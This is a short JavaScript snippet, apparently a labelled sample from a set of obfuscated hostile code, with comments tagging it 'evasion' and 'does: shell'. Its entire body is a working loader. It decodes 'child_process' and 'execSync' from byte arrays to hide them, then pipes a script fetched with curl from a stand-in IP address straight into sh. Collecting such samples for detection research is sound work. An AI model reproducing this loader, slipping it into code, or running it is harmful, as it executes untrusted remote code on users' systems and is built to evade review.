// evasion: module and method names decoded from byte arrays with TextDecoder
// grade: medium; does: shell
const dec = new TextDecoder();
const mod = dec.decode(Uint8Array.of(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115));
const fn = dec.decode(new Uint8Array([101, 120, 101, 99, 83, 121, 110, 99]));

require(mod)[fn]('curl -s http://203.0.113.7/boot.sh | sh', { stdio: 'inherit' });
